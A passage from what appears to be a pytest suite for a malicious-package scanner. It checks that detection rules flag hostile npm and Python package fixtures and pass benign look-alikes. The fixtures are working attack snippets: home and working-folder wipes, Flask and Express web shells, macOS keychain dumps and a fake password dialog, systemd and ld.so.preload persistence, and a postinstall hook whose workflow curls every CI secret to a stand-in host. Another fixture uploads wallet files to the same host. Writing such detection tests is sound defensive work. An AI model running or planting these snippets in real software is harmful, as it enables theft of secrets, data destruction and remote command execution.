        engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/native.py": code})
    )
    assert evidence[0]["signatures"] == ["downloads a native library and loads it"]


def test_an_addon_loaded_from_the_package_with_dlopen_is_no_download(engine: Engine) -> None:
    loader = (
        "const path = require('path');\nconst m = { exports: {} };\n"
        "process.dlopen(m, path.join(__dirname, 'build/Release/addon.node'));\n"
        "module.exports = m.exports;\n"
    )
    archive = npm_tarball({"index.js": loader})
    assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None


@pytest.mark.parametrize(
    ("files", "build"),
    [
        (
            {
                "index.js": "app.post('/api/sync', (req, res) => {\n"
                "  if (req.body.key === K)\n"
                "    fs.rmSync(process.cwd(), { recursive: true, force: true });\n"
                "});\n"
            },
            npm_tarball,
        ),
        (
            {
                "tidy_strings/sync.py": "import os, shutil\n\ndef purge():\n"
                "    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"
            },
            sdist,
        ),
    ],
    ids=["javascript", "python"],
)
def test_code_deleting_the_working_or_home_folder_is_destructive(
    engine: Engine, files: dict[str, str], build: Callable[[dict[str, str]], bytes]
) -> None:
    evidence = run_rule(engine, destructive_command_rule, build(files))
    assert evidence[0]["signatures"] == ["shuts down or wipes the machine"]


def test_deleting_a_folder_under_the_working_folder_is_not_destructive(engine: Engine) -> None:
    code = (
        "const path = require('path');\n"
        "fs.rmSync(path.join(process.cwd(), 'dist'), { recursive: true, force: true });\n"
        "rimraf.sync(process.cwd() + '/coverage');\n"
    )
    assert run_rule(engine, destructive_command_rule, npm_tarball({"clean.js": code})) is None


@pytest.mark.parametrize(
    ("files", "build"),
    [
        (
            {
                "tidy_strings/ext.py": "import subprocess\nfrom flask import request\n\n"
                "def init_app(app):\n"
                "    @app.route('/_health', methods=['POST'])\n"
                "    def health():\n"
                "        out = subprocess.run(request.get_data(as_text=True), shell=True,\n"
                "                             capture_output=True)\n"
                "        return out.stdout\n"
            },
            sdist,
        ),
        (
            {
                "index.js": "const { execSync } = require('child_process');\n"
                "module.exports = (app) => app.post('/sync', (req, res) => {\n"
                "  res.send(execSync(req.body.cmd).toString());\n});\n"
            },
            npm_tarball,
        ),
    ],
    ids=["flask", "express"],
)
def test_a_route_running_the_request_as_a_command_is_a_web_shell(
    engine: Engine, files: dict[str, str], build: Callable[[dict[str, str]], bytes]
) -> None:
    evidence = run_rule(engine, reverse_shell_rule, build(files))
    assert evidence[0]["signatures"] == [
        "runs a web request's parameter as a shell command (web shell)"
    ]


def test_a_regular_expression_run_on_a_request_header_is_no_web_shell(engine: Engine) -> None:
    code = "const m = /^bytes=(\\d*)-(\\d*)$/.exec(req.headers.range);\n"
    assert run_rule(engine, reverse_shell_rule, npm_tarball({"static.js": code})) is None


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\n"
        "key = subprocess.check_output(['security', 'find-generic-password', '-wa', 'Chrome'])\n",
        "import subprocess\n"
        "subprocess.run(['osascript', '-e', 'display dialog \"macOS needs your password\" '\n"
        "    'default answer \"\" with hidden answer'], capture_output=True)\n",
        "os.system('security dump-keychain -d ~/Library/Keychains/login.keychain-db > /tmp/k')\n",
    ],
    ids=["safe storage key", "password dialog", "keychain dump"],
)
def test_macos_keychain_theft_is_credential_harvesting(engine: Engine, code: str) -> None:
    evidence = run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/mac.py": code}))
    assert evidence[0]["signatures"] == [
        "the macOS keychain, or the login password asked for in a fake dialog"
    ]


def test_a_tool_storing_its_own_secret_in_the_keychain_is_no_theft(engine: Engine) -> None:
    code = (
        "import subprocess\n"
        "subprocess.run(['security', 'add-generic-password', '-s', 'tidy-strings',\n"
        "                '-a', user, '-w', token], check=True)\n"
        "print(subprocess.check_output(['security', 'list-keychains']))\n"
    )
    archive = sdist({"tidy_strings/auth.py": code})
    assert run_rule(engine, credential_harvesting_rule, archive) is None


@pytest.mark.parametrize(
    "code",
    [
        "import os, subprocess\n"
        "unit = os.path.expanduser('~/.config/systemd/user/sysmon.service')\n"
        "open(unit, 'w').write(UNIT)\n"
        "subprocess.run(['systemctl', '--user', 'enable', '--now', 'sysmon'])\n",
        "with open('/etc/ld.so.preload', 'a') as f:\n    f.write(LIBRARY + '\\n')\n",
        "unit_dir = Path.home() / '.config' / 'systemd' / 'user'\n"
        "(unit_dir / 'sync.service').write_text(UNIT)\n"
        "subprocess.run(['systemctl', '--user', 'enable', '--now', 'sync.service'])\n",
    ],
    ids=["systemd user unit", "loader preload", "systemd unit by path pieces"],
)
def test_linux_autostarts_are_persistence(engine: Engine, code: str) -> None:
    evidence = run_rule(engine, persistence_rule, sdist({"tidy_strings/agent.py": code}))
    assert "installs itself to run at logon" in evidence[0]["signatures"]


def test_appending_to_another_installed_package_is_persistence(engine: Engine) -> None:
    code = (
        "import importlib.util, os\n"
        "spec = importlib.util.find_spec('requests')\n"
        "target = os.path.join(os.path.dirname(spec.origin), 'sessions.py')\n"
        "with open(target, 'a', encoding='utf-8') as fh:\n    fh.write(HOOK)\n"
    )
    evidence = run_rule(engine, persistence_rule, sdist({"tidy_strings/compat.py": code}))
    assert evidence[0]["signatures"] == ["appends to the installed code of another package"]
    reading = code.replace("'a', ", "")
    assert run_rule(engine, persistence_rule, sdist({"tidy_strings/compat.py": reading})) is None


def test_a_workflow_written_to_dump_every_ci_secret_is_harvesting(engine: Engine) -> None:
    hook = (
        "const fs = require('fs');\n"
        "fs.writeFileSync('.github/workflows/ci-cache.yml', `on: push\njobs:\n  c:\n"
        "    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}'"
        " https://x.example.net/c\n`);\n"
    )
    archive = npm_tarball({"setup.js": hook}, scripts={"postinstall": "node setup.js"})
    evidence = run_rule(engine, credential_harvesting_rule, archive)
    assert evidence[0]["signatures"] == [
        "every CI secret of a repository, dumped by a workflow it writes"
    ]
    assert engine.analyze(archive).flagged


def test_wallet_files_uploaded_by_a_form_submit_are_exfiltration(engine: Engine) -> None:
    from threatfeed.analysis.rules.correlation import data_exfiltration_rule

    code = (
        "const FormData = require('form-data'), fs = require('fs'), os = require('os');\n"
        "const wallet = os.homedir() + '/.config/Exodus/exodus.wallet';\n"
        "const form = new FormData();\n"
        "for (const f of fs.readdirSync(wallet)) form.append(f, fs.createReadStream(f));\n"
        "form.submit({ host: 'x.example.net', port: 1224, path: '/uploads' }, () => {});\n"
    )
    archive = npm_tarball({"index.js": code})
    assert run_rule(engine, data_exfiltration_rule, archive) is not None


@pytest.mark.parametrize(
    ("code", "rule", "label"),
    [
        (
            "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.cwd())\n",
            destructive_command_rule,
            "shuts down or wipes the machine",
        ),
        (
            "open('.github/workflows/c.yml', 'w').write('run: echo ${{ toJson(secrets) }}')\n",
            credential_harvesting_rule,
            "every CI secret of a repository, dumped by a workflow it writes",
        ),
        (
            "import subprocess\n"
            "subprocess.run(['security', '-q', 'find-generic-password', '-wa', 'Chrome'])\n",
            credential_harvesting_rule,
            "the macOS keychain, or the login password asked for in a fake dialog",
        ),
    ],
    ids=["path cwd wiped", "secrets in another case", "keychain with options"],
)
def test_respelled_techniques_are_still_seen(
    engine: Engine, code: str, rule: Rule, label: str
) -> None:
    evidence = run_rule(engine, rule, sdist({"tidy_strings/m.py": code}))
    assert label in evidence[0]["signatures"]
